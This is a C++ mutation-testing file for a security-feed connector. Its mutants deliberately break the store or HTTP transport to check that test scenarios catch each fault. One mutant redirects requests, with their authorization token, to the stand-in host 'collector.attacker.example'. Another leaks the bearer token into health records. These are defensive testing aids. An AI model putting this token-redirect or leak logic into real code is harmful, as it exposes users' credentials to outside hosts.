#include "tests/mutants/mutants.hpp"

#include "core/feeds/times.hpp"
#include "core/seams/time.hpp"

#include <nlohmann/json.hpp>

#include <functional>

namespace mutants {
namespace {

using scenarios::run::tampering;
using change_commit = std::function<void(core::commit&)>;

/// A store that changes what it is given, or what it gives back.
class crooked_store : public core::store {
public:
  explicit crooked_store(core::store& inner) : inner_(inner) {}
  auto apply(const core::commit& step) -> seams::result<core::commit_outcome> override {
    return inner_.apply(step);
  }
  auto cursor(std::string_view feed) -> seams::result<std::optional<std::string>> override {
    return inner_.cursor(feed);
  }
  auto marked(std::string_view feed, const std::vector<std::string>& names)
      -> seams::result<std::vector<bool>> override {
    return inner_.marked(feed, names);
  }
  auto read(const core::record_query& wanted,
            const std::function<bool(const core::stored_record&)>& sink)
      -> seams::result<void> override {
    return inner_.read(wanted, sink);
  }
  auto health() -> seams::result<std::vector<core::health_entry>> override {
    return inner_.health();
  }

protected:
  core::store& inner_;
};

class changing_store final : public crooked_store {
public:
  changing_store(core::store& inner, change_commit change)
      : crooked_store(inner), change_(std::move(change)) {}
  auto apply(const core::commit& step) -> seams::result<core::commit_outcome> override {
    auto changed = step;
    change_(changed);
    return inner_.apply(changed);
  }

private:
  change_commit change_;
};

/// Saves how far it means to read before it has stored what it read.
class cursor_first_store final : public crooked_store {
public:
  using crooked_store::crooked_store;
  auto apply(const core::commit& step) -> seams::result<core::commit_outcome> override {
    if (!step.records.empty()) {
      auto ahead = core::commit();
      ahead.feed = step.feed;
      ahead.cursor = seams::to_rfc3339(step.now);
      ahead.now = step.now;
      (void)inner_.apply(ahead);
    }
    return inner_.apply(step);
  }
};

class crooked_transport : public seams::transport {
public:
  using change_request = std::function<void(seams::request&)>;
  using change_response = std::function<void(seams::response&)>;
  crooked_transport(seams::transport& inner, change_request before, change_response after)
      : inner_(inner), before_(std::move(before)), after_(std::move(after)) {}
  auto exchange(seams::request query)
      -> boost::asio::awaitable<seams::result<seams::response>> override {
    before_(query);
    auto answer = co_await inner_.exchange(std::move(query));
    if (answer) {
      after_(*answer);
    }
    co_return answer;
  }

private:
  seams::transport& inner_;
  change_request before_;
  change_response after_;
};

void replace_all(std::string& text, const std::string& from, const std::string& to) {
  for (auto at = text.find(from); at != std::string::npos; at = text.find(from, at + to.size())) {
    text.replace(at, from.size(), to);
  }
}

auto with_store(change_commit change) -> tampering {
  auto out = tampering();
  out.wrap_store = [change](core::store& inner) {
    return std::make_unique<changing_store>(inner, change);
  };
  return out;
}

template <class wrapped> auto with_store_of() -> tampering {
  auto out = tampering();
  out.wrap_store = [](core::store& inner) { return std::make_unique<wrapped>(inner); };
  return out;
}

auto with_transport(crooked_transport::change_request before,
                    crooked_transport::change_response after) -> tampering {
  auto out = tampering();
  out.wrap_transport = [before, after](seams::transport& inner) {
    return std::make_unique<crooked_transport>(inner, before, after);
  };
  return out;
}

/// What a foreign host looks like to a connector that does not check.
void hide_foreign_host(std::string& text) {
  replace_all(text, "https://collector.attacker.example/", "https://graph.microsoft.com/foreign/");
}

auto follows_foreign_links() -> tampering {
  return with_transport(
      [](seams::request& query) {
        replace_all(query.url,
                    "https://graph.microsoft.com/foreign/",
                    "https://collector.attacker.example/");
      },
      [](seams::response& answer) { hide_foreign_host(answer.body); });
}

auto leaks_its_token() -> tampering {
  const auto seen = std::make_shared<std::string>();
  auto out = with_transport(
      [seen](seams::request& query) {
        *seen = std::string(query.fields.find("Authorization").value_or(*seen));
      },
      [](seams::response&) {});
  out.wrap_store = [seen](core::store& inner) {
    return std::make_unique<changing_store>(inner, [seen](core::commit& step) {
      step.health.push_back({step.feed, "ok", "", "sent " + *seen, step.now});
    });
  };
  return out;
}

auto writes_to_the_tenant() -> tampering {
  return with_transport(
      [](seams::request& query) {
        if (query.url.find("/alerts_v2") != std::string::npos) {
          query.method = "PATCH";
        }
      },
      [](seams::response&) {});
}

auto sends_a_spoiled_token() -> tampering {
  return with_transport(
      [](seams::request& query) {
        if (query.fields.find("Authorization")) {
          query.fields.set("Authorization", "Bearer not.a.token");
        }
      },
      [](seams::response&) {});
}

/// Asks for the last five minutes of clicks only, wherever the cursor stands.
void shorten_window(seams::request& query) {
  const auto from = query.body.find("datetime(") + 9;
  const auto to = query.body.find("datetime(", from) + 9;
  if (from < 9 || to < 9 || to == std::string::npos) {
    return;
  }
  const auto text_at = [&](std::size_t at) {
    return query.body.substr(at, query.body.find(')', at) - at);
  };
  const auto end = core::feeds::parse_time(text_at(to));
  if (end) {
    const auto late = seams::to_rfc3339(*end - std::chrono::minutes{5});
    query.body.replace(from, text_at(from).size(), late);
  }
}

void reprint(core::commit& step) {
  for (auto& one : step.records) {
    const auto document = nlohmann::json::parse(one.raw, nullptr, false);
    one.raw = document.is_discarded() ? one.raw : document.dump();
  }
}

void drop_one(core::commit& step) {
  if (!step.records.empty()) {
    step.records.pop_back();
  }
}

void invent_one(core::commit& step) {
  if (!step.records.empty()) {
    auto more = step.records.front();
    more.key += "-invented";
    more.raw = R"({"id":"invented","Id":"invented","lastUpdateDateTime":"2026-03-10T08:00:00Z"})";
    step.records.push_back(std::move(more));
  }
}

/// Still JSON, but nothing that triage or OCSF know.
void forget_what_it_says(core::commit& step) {
  for (auto& one : step.records) {
    one.raw = R"({"kept":true})";
  }
}

void hide_gaps(core::commit& step) {
  std::erase_if(step.health, [](const core::health_entry& one) { return one.state == "gap"; });
}

auto without_deduplication() -> tampering {
  const auto count = std::make_shared<int>(0);
  return with_store([count](core::commit& step) {
    for (auto& one : step.records) {
      one.key += "#" + std::to_string(++*count);
    }
  });
}

} // namespace

auto all() -> std::vector<mutant> {
  return {
      {"the cursor is saved before the records",
       "tests/mutants/killed-without-overlap.toml",
       "survives_its_deaths",
       with_store_of<cursor_first_store>()},
      {"records are not deduplicated",
       "scenarios/suites/clicks/email-click-blocked.toml",
       "nothing_doubled",
       without_deduplication()},
      {"Retry-After is ignored",
       "scenarios/suites/http/throttle-storm.toml",
       "retry_after_kept",
       with_transport([](seams::request&) {},
                      [](seams::response& answer) { answer.fields.remove("Retry-After"); })},
      {"the overlap is lost",
       "scenarios/suites/delivery/late-clicks.toml",
       "nothing_lost",
       with_transport(shorten_window, [](seams::response&) {})},
      {"a foreign link is followed with the token",
       "scenarios/suites/http/hostile-links.toml",
       "tokens_fit",
       follows_foreign_links()},
      {"JSON is printed anew before it is stored",
       "scenarios/suites/records/odd-audit-records.toml",
       "nothing_altered",
       with_store(reprint)},
      {"the last record of a page is dropped",
       "scenarios/suites/teams/click-override.toml",
       "nothing_lost",
       with_store(drop_one)},
      {"a record is stored that nobody served",
       "scenarios/suites/clicks/email-click-blocked.toml",
       "nothing_invented",
       with_store(invent_one)},
      {"a loss for good is not declared",
       "scenarios/suites/activity/window-rule.toml",
       "gaps_declared",
       with_store(hide_gaps)},
      {"a token is written into the health history",
       "scenarios/suites/clicks/email-click-blocked.toml",
       "no_secret_kept",
       leaks_its_token()},
      {"records are stored as nothing that has a name in OCSF",
       "scenarios/suites/clicks/email-click-blocked.toml",
       "valid_ocsf",
       with_store(forget_what_it_says)},
      {"an attack is stored as nothing that triage knows",
       "scenarios/suites/triage/blocked-click.toml",
       "label attack",
       with_store(forget_what_it_says)},
      {"an alert is written to",
       "scenarios/suites/clicks/email-click-blocked.toml",
       "read_only",
       writes_to_the_tenant()},
      {"a token that cannot be right is sent",
       "scenarios/suites/clicks/email-click-blocked.toml",
       "tokens_fit",
       sends_a_spoiled_token()},
  };
}

} // namespace mutants
